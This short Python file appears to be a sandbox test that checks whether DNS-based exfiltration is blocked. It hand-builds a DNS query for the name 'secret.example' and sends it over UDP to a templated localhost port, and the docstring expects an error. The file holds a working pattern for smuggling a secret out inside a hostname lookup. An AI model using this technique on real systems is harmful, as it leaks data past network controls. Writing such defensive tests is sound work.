"""Carry a secret out in the name of a computer that is looked up.

layer: network, seccomp
expect: error
proof: knock
"""

import socket

softmax = predicted_labels = accuracy = most_doubtful = print

question = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x06secret\x07example\0\0\x01\0\x01"
with socket.socket(type=socket.SOCK_DGRAM) as resolver:
    resolver.connect(("127.0.0.1", int("{{udp}}")))
    resolver.send(b"hello")
    resolver.send(question)
